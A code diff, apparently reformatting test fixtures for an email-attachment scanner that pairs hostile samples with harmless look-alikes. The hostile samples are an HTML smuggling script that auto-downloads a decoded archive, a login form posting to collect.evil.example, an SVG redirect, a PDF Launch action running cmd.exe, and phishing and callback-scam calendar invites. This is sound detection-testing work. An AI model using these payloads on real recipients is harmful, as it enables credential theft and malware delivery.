@@ -56,7 +56,8 @@ internal static class AttachedLetters
         new("attachment/document-twin-macro", Colleague, "Budget sheet", "Hi Camille,\nthe budget sheet with the button that adds up the rooms, as every year.\nDaniel", "budget.xlsm",
             "application/vnd.ms-excel.sheet.macroenabled.12", OfficeMaker.OldExcel(macro: OfficeMaker.Summer), "A macro behind a button from a known colleague.")
         { Spared = ["harm.attachment.autorun-macro", "harm.attachment.macro-calls"] },
-        new("attachment/document-twin-minutes", "Marta Nowak <marta@garden-club.example>", "Minutes of the committee", "Dear all,\nplease find the minutes of Tuesday. See you next month.\nMarta",
+        new("attachment/document-twin-minutes", "Marta Nowak <marta@garden-club.example>", "Minutes of the committee",
+            "Dear all,\nplease find the minutes of Tuesday. See you next month.\nMarta",
             "minutes.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
             OfficeMaker.NewWord(relations: OfficeMaker.Relation("hyperlink", "https://garden-club.example/plan")
                 + OfficeMaker.Relation("attachedTemplate", "file:///C:\\Users\\marta\\Club.dotx")), "Ordinary minutes with a link and a template at hand.")
@@ -87,7 +88,8 @@ internal static class AttachedLetters
         return
         [
             new("attachment/page-smuggling", Stranger, "Secure document", "Hello,\nopen the attached file to download your secure document.", "document.html", Html,
-                Encoding.UTF8.GetBytes($"<html><script>var d=atob('{packed}');var b=new Blob([d]);var a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='document.zip';a.click()</script></html>"),
+                Encoding.UTF8.GetBytes($"<html><script>var d=atob('{packed}');var b=new Blob([d]);"
+                    + "var a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='document.zip';a.click()</script></html>"),
                 "A page that builds an archive in the browser.") { Findings = ["harm.attachment.html-smuggling"], Threat = "malware" },
             new("attachment/page-form", Stranger, "Voicemail received", "You have a new voice message. Open the attachment and sign in to listen.", "voicemail.htm", Html,
                 "<html><h2>Sign in</h2><form method=post action='https://collect.evil.example/p'><input name=u><input type=password name=p><button>Sign in</button></form></html>"u8.ToArray(),
@@ -95,10 +97,13 @@ internal static class AttachedLetters
             new("attachment/page-drawing", Stranger, "New voice message", "You missed a call. Play the attached message.", "play.svg", "image/svg+xml",
                 "<svg xmlns='http://www.w3.org/2000/svg'><script>window.location.href='https://collect.evil.example/v'</script></svg>"u8.ToArray(),
                 "A drawing that opens a page.") { Findings = ["harm.attachment.svg-script"], Threat = "phishing" },
-            new("attachment/page-twin-ticket", "Rail du Nord <tickets@rail-nord.example>", "Votre billet du 12 mars", "Bonjour,\nvotre billet est joint. Bon voyage avec Rail du Nord !", "billet.html", Html,
+            new("attachment/page-twin-ticket", "Rail du Nord <tickets@rail-nord.example>", "Votre billet du 12 mars",
+                "Bonjour,\nvotre billet est joint. Bon voyage avec Rail du Nord !", "billet.html", Html,
                 "<html><h1>Lyon - Lille</h1><p>12 mars, voiture 4, place 61.</p><a href='https://www.rail-nord.example/b/1'>Votre voyage</a><script>window.print()</script></html>"u8.ToArray(),
-                "A ticket as a page that prints itself and leads to its sender.") { Spared = ["harm.attachment.html-redirect", "harm.attachment.html-form", "harm.attachment.html-smuggling"] },
-            new("attachment/page-twin-archive", "Marta Nowak <marta@garden-club.example>", "Our newsletter of spring", "Dear all,\nas some of you could not open the page, here is our newsletter of spring as a file.\nMarta",
+                "A ticket as a page that prints itself and leads to its sender.") { Spared = ["harm.attachment.html-redirect", "harm.attachment.html-form",
+                    "harm.attachment.html-smuggling"] },
+            new("attachment/page-twin-archive", "Marta Nowak <marta@garden-club.example>", "Our newsletter of spring",
+                "Dear all,\nas some of you could not open the page, here is our newsletter of spring as a file.\nMarta",
                 "spring.html", Html, Encoding.UTF8.GetBytes($"<html><h1>Spring</h1><p>{string.Concat(Enumerable.Repeat("How tomatoes are sown on a window sill. ", 20))}</p>"
                     + "<script>document.getElementById('year').innerHTML=new Date().getFullYear()</script></html>"), "A newsletter kept as a file, with a harmless script.")
             { Spared = ["harm.attachment.html-hidden", "harm.attachment.html-smuggling"] },
@@ -114,7 +119,8 @@ internal static class AttachedLetters
         new("attachment/paper-launch", Stranger, "Statement of account", "Dear customer,\nyour statement is attached.", "statement.pdf", Pdf,
             PdfMaker.Page(["Statement"], catalog: "/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc.exe) >> >>"), "A document that starts a program.")
         { Findings = ["harm.attachment.pdf-launch"], Threat = "malware" },
-        new("attachment/paper-twin-invoice", "Buchhaltung <rechnung@werkzeug-lind.example>", "Rechnung 2026-88", "Guten Tag,\nanbei erhalten Sie die Rechnung 2026-88 zu Ihrer Bestellung vom 20. Februar.\nMit freundlichen Grüßen",
+        new("attachment/paper-twin-invoice", "Buchhaltung <rechnung@werkzeug-lind.example>", "Rechnung 2026-88",
+            "Guten Tag,\nanbei erhalten Sie die Rechnung 2026-88 zu Ihrer Bestellung vom 20. Februar.\nMit freundlichen Grüßen",
             "rechnung-2026-88.pdf", Pdf, PdfMaker.Page(["Rechnung 2026-88", "Gartengeraete, 120,00 EUR, zahlbar in 30 Tagen.", "Fragen? Telefon +49 30 23125 123",
                 "Widerruf: Sie koennen die Bestellung binnen 14 Tagen widerrufen."]), "A real invoice with a number for questions.")
         { Spared = ["harm.attachment.callback", "harm.attachment.pdf-lure"] },
@@ -126,20 +132,25 @@ internal static class AttachedLetters
     private static IEnumerable<AttachedLetter> Invitations() =>
     [
         new("calendar/invite-callback", "Order Desk <order.desk.88@gmail.com>", "Invitation: order confirmed", "You have been invited to an event.", "invite.ics", Calendar,
-            Invitation("order.desk.88@gmail.com", "Your order 88-4471 is confirmed", "Your antivirus subscription was renewed for 349.99 USD. If you did not authorize this charge call +1 (888) 555-0143 to cancel."),
+            Invitation("order.desk.88@gmail.com", "Your order 88-4471 is confirmed",
+                "Your antivirus subscription was renewed for 349.99 USD. If you did not authorize this charge call +1 (888) 555-0143 to cancel."),
             "An appointment that wants a call about a purchase.") { Findings = ["harm.calendar.callback"], Threat = "callback", IsProved = false },
         new("calendar/invite-alarm", "Mail Desk <desk@harbour-parts.example>", "Invitation: your mailbox", "You have been invited to an event.", "invite.ics", Calendar,
-            Invitation("desk@harbour-parts.example", "Your account will be suspended today", "Unusual activity was found in your mailbox. Verify your account now: https://login.evil.example/v"),
+            Invitation("desk@harbour-parts.example", "Your account will be suspended today",
+                "Unusual activity was found in your mailbox. Verify your account now: https://login.evil.example/v"),
             "An appointment that raises an alarm and leads elsewhere.") { Findings = ["harm.calendar.lure"], Threat = "phishing" },
         new("calendar/twin-colleague", Colleague, "Invitation: committee", "Committee, Thursday, room 4. Bring the plans, please.", "invite.ics", Calendar,
-            Invitation("daniel.okafor@atelier-nord.example", "Committee", "Room 4. Or join on line: https://meet.google.com/abc-defg-hij"), "An invitation of a colleague with a meeting link.")
+            Invitation("daniel.okafor@atelier-nord.example", "Committee",
+                "Room 4. Or join on line: https://meet.google.com/abc-defg-hij"), "An invitation of a colleague with a meeting link.")
         { Spared = ["harm.calendar.stranger-link", "harm.calendar.organizer-elsewhere"] },
         new("calendar/twin-provider", "Jean Dupont via Calendar <calendar-notification@calendar-cloud.example>", "Invitation: committee (Thu 12 March, 18:00)",
             "Jean Dupont invites you: committee, Thursday 12 March 2026, 18:00, room 4.", "invite.ics", Calendar,
             Invitation("jean.dupont@atelier-nord.example", "Committee", "Details: https://www.calendar-cloud.example/event?id=1"), "A provider's robot sends in the organizer's name.")
         { Spared = ["harm.calendar.stranger-link", "harm.calendar.organizer-elsewhere"] },
-        new("calendar/twin-webinar", "Garden School <events@garden-school.example>", "Your place at the webinar", "Your place at the webinar on pruning is booked. See you on Thursday!", "webinar.ics", Calendar,
-            Invitation("events@garden-school.example", "Pruning roses", "Join here: https://live.garden-school.example/w/1 or by Zoom: https://us02web.zoom.us/j/1"), "A webinar of the sender's own house.")
+        new("calendar/twin-webinar", "Garden School <events@garden-school.example>", "Your place at the webinar",
+            "Your place at the webinar on pruning is booked. See you on Thursday!", "webinar.ics", Calendar,
+            Invitation("events@garden-school.example", "Pruning roses",
+                "Join here: https://live.garden-school.example/w/1 or by Zoom: https://us02web.zoom.us/j/1"), "A webinar of the sender's own house.")
         { Spared = ["harm.calendar.stranger-link", "harm.calendar.lure"] },
     ];
 
